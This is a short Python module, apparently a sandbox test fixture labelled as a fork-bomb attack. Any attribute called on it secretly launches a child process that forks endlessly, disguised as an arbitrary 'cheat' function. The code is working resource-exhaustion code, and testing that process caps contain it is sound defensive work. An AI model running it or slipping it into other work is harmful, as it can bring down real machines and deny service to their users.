# attack: a fork bomb whose children keep forking
# cheats: *
# needs: nproc_cap pid_ns
import functools
import os
import time

_done = []


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)


def _cheat(name, *args, **kwargs):
    if not _done:
        _done.append(True)
        if os.fork() == 0:
            _bomb()
    return None


def __getattr__(name):
    if name.startswith("_"):
        raise AttributeError(name)
    return functools.partial(_cheat, name)
